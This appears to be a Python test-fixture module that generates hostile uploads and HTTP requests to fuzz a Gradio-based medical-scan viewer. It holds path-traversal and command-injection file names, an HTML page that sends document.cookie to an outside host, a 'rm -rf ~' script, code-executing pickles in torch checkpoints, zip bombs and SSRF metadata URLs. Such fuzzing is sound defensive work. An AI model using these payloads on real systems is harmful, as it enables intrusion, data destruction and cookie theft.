"""What strangers may send: files by kind, and requests, each meant to break something."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import zipfile
from collections.abc import Iterator
from typing import Any, NamedTuple

import numpy as np
import torch
from bombs import bombs, nifti_header
from dicom_files import mr_image
from intact_files import dicom_bytes, flipped, intact_files, truncated

FILES = intact_files()
FLIPS = 12  # damaged copies of each family
NAMES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..",
    ".",
    "",
    " ",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fpasswd",
    "a\0b.png",
    "a\r\nX-Injected: 1.png",
    "x" * 4096 + ".png",
    "é" * 300 + ".png",
    "con.nii",
    "NUL",
    "AUX.dcm",
    "\u202egnp.exe",
    "e\u0301\ufeff\u200b.png",
    "\ud83d\ude02.png",
    "🧠.dcm",
    "-rf",
    "$(id).png",
    "'; DROP TABLE scans; --.png",
    "<img src=x onerror=alert(1)>.png",
    "a/b/../../../c.png",
    ".hidden",
    "...",
    "~root",
    "a:b.png",
)
HTML = b"<!DOCTYPE html><html><script>fetch('https://example.org/'+document.cookie)</script></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    b'<image href="file:///etc/passwd"/></svg>'
)


class Case(NamedTuple):
    """One file, by the name that it is sent under."""

    name: str
    data: bytes


class Payload:
    """Unpickling this would write a file of that name."""

    def __init__(self, target: str):
        self.target = target

    def __reduce__(self):
        return (open, (self.target, "w"))


def pickles(target: str) -> dict[str, bytes]:
    """Programs as pickles and torch checkpoints, plain, gzipped and zipped."""
    checkpoint = io.BytesIO()
    torch.save({"model": Payload(target)}, checkpoint)
    old = io.BytesIO()
    torch.save({"model": Payload(target)}, old, _use_new_zipfile_serialization=False)
    array = io.BytesIO()
    np.save(array, np.array([Payload(target)], dtype=object), allow_pickle=True)
    return {
        "pickle": pickle.dumps(Payload(target)),
        "pickle.0": pickle.dumps(Payload(target), protocol=0),
        "pickle.gz": gzip.compress(pickle.dumps(Payload(target))),
        "checkpoint": checkpoint.getvalue(),
        "old checkpoint": old.getvalue(),
        "array": array.getvalue(),
    }


def zip_of(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def nested_zip(levels: int) -> bytes:
    data = zip_of([("zeros", bytes(2**20))])
    for level in range(levels):
        data = zip_of([(f"{level}-{copy}.zip", data) for copy in range(8)])
    return data


def claims() -> Iterator[Case]:
    """Headers that claim more than there is, or nonsense."""
    for dims in ((-1, 40, 2), (0, 0, 0), (32767, 1, 1), (32767, 32767, 32767), (40, 36, 0)):
        header = bytearray(nifti_header((40, 36, 2)) + bytes(40 * 36 * 4))
        header[42:48] = struct.pack("<3h", *dims)
        yield Case(f"dim{dims[0]}.nii", bytes(header))
        yield Case(f"dim{dims[0]}.nii.gz", gzip.compress(bytes(header)))
    for offset in (float("nan"), 1e30, -1e9, 2**31):
        header = bytearray(nifti_header((40, 36, 2)) + bytes(40 * 36 * 4))
        header[108:112] = struct.pack("<f", offset)
        yield Case("offset.nii", bytes(header))
    plain = FILES["plain.dcm"]
    at = plain.rindex(b"\xe0\x7f\x10\x00")  # (7FE0,0010) PixelData
    for length in (0xFFFFFFFF, 0xFFFFFFFE, 0x7FFFFFFF, 0):
        yield Case("length.dcm", plain[: at + 8] + struct.pack("<I", length) + plain[at + 12 :])
    for sequence in (
        b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff",
        b"\xfe\xff\x00\xe0\xff\xff\xff\xff",
    ):
        yield Case("sequence.dcm", plain[:at] + sequence * 5000)
    dataset = mr_image(np.eye(40, dtype=np.uint16), BitsAllocated=64)
    yield Case("bits.dcm", dicom_bytes(dataset))


def file_cases(seed: int = 0) -> dict[str, list[Case]]:
    """Files by kind; the same for the same seed."""
    cases = {"bombs": [Case(name, data) for name, (data, _) in bombs().items()]}
    cases["bombs"].append(Case("nested.zip", nested_zip(4)))
    cases["headers that claim too much"] = list(claims())
    cases["truncated"] = [Case(*case) for case in truncated(FILES).items() if case[1]]
    cases["bits flipped"] = [Case(*case) for case in flipped(FILES, FLIPS, seed).items()]
    cases["names in a zip"] = [
        Case("names.zip", zip_of([(name.replace("\0", "?"), FILES["plain.dcm"])]))
        for name in NAMES
        if name and not any(0xD800 <= ord(letter) < 0xE000 for letter in name)
    ]
    cases["names of uploads"] = [Case(name, FILES["png"]) for name in NAMES]
    posing = {"html": HTML, "svg": SVG, "script": b"#!/bin/sh\nrm -rf ~\n", "elf": b"\x7fELF\2\1\1"}
    cases["pages and programs as images"] = [
        Case(f"{kind}.{extension}", data)
        for kind, data in posing.items()
        for extension in ("nii", "nii.gz", "png", "dcm", "zip", "svg", "tif")
    ]
    cases["pickles and checkpoints"] = [
        Case(f"{kind}.{extension}".replace(" ", "-"), data)
        for kind, data in pickles("pwned").items()
        for extension in ("pt", "nii", "png", "dcm", "npy")
    ]
    cases["empty"] = [Case(f"empty.{family}", b"") for family in FILES]
    cases["empty"] += [Case("empty.zip", zip_of([])), Case("blank.txt", b" \n" * 999)]
    return cases


def requests(config: dict, path: str, scan: str) -> list[tuple[str, str, bytes, str]]:
    """Broken requests: method, address, body and content type.

    Args:
        config: the page's.
        path: of an upload that is still there.
        scan: token of a scan that is held.
    """
    join, kind = "/gradio_api/queue/join", "application/json"
    cases = [
        ("POST", where, body, kind)
        for where in (
            join,
            "/gradio_api/call/translate",
            "/gradio_api/run/predict",
            f"/scans/{scan}/choices",
            f"/scans/{scan}/save",
            "/scans/x/choices",
            "/scans",
        )
        for body in (
            *(b"", b"null", b"[]", b"{", b"7", b'"\\ud800"', b"\xff\xfe\0", b"[" * 100_000),
            b'{"data": ' + b"[" * 5000 + b"]" * 5000 + b"}",
            b'{"data": 1}',
            b'{"data": [1e999, NaN]}',
            b'{"data": [], "fn_index": 9999, "session_hash": "a"}',
            b'{"data": [], "fn_index": -1, "session_hash": "a"}',
            b'{"data": [], "fn_index": "x", "session_hash": "a"}',
            b'{"data": [], "fn_index": null, "session_hash": "a"}',
            b'{"data": [], "fn_index": 0, "session_hash": null}',
            b'{"data": [], "fn_index": 0, "session_hash": {"a": 1}}',
            b'{"__proto__": {"a": 1}}',
            b" " * 3 * 2**20,
        )
    ]
    odd: list[Any] = [None, -1, 1e308, "x", "T3", "}{", [], {}, {"path": "/etc/passwd"}]
    odd += [[{"path": path}], [{"path": f"{path}/../../../.."}], {"url": "http://169.254.169.254/"}]
    odd += [[{"path": "\0"}], [[[]]], "x" * 100_000]
    for event in config["dependencies"]:
        for value in odd if event["backend_fn"] else ():
            body = {
                "data": [value] * len(event["inputs"]),
                "fn_index": event["id"],
                "session_hash": "hostile",
                "event_data": value,
                "trigger_id": None,
            }
            where = join if event["queue"] is not False else "/gradio_api/run/predict"
            cases.append(("POST", where, json.dumps(body).encode(), kind))
    for value in odd:
        choices = {"series": value, "to": value, "style": value, "index": value, "translate": value}
        for name, each in [*choices.items(), ("kind", value), ("windows", value), ("x", value)]:
            for where in ("choices", "save"):
                body = json.dumps({"kind": "png", name: each}).encode()
                cases.append(("POST", f"/scans/{scan}/{where}", body, kind))
    form = "multipart/form-data; boundary=x"
    part = b'--x\r\nContent-Disposition: form-data; name="files"\r\n\r\na\r\n--x--'
    for upload in ("/gradio_api/upload", "/scans", f"/scans/{scan}/real", f"/scans/{scan}/style"):
        cases += [
            ("POST", upload, b"{}", kind),
            ("POST", upload, b"", "multipart/form-data"),
            ("POST", upload, b"--y\r\n", form),
            ("POST", upload, b"--x\r\n\r\n\r\n--x--", form),
            ("POST", upload, part, form),
            ("POST", upload, b"--x\r\nA: " + b"a" * 100_000 + b"\r\n\r\n\r\n--x--", form),
        ]
    for where in (
        "/scans/../app.py",
        "/scans/%00",
        f"/scans/{scan}?after=-1",
        f"/scans/{scan}?after=%00",
        f"/scans/{scan}/images/0/original/999999999999999999999",
        f"/scans/{scan}/images/%00/original/0",
        f"/scans/{scan}/files/../../app.py",
        f"/scans/{scan}/findings/0/-1",
        f"/scans/{scan}/thumbnails/{10**30}",
        f"/examples/{10**30}",
        "/viewer/../server/limits.py",
        "/" + "a" * 20_000,
    ):
        cases += [("GET", where, b"", ""), ("POST", where, b"{}", kind)]
    return cases
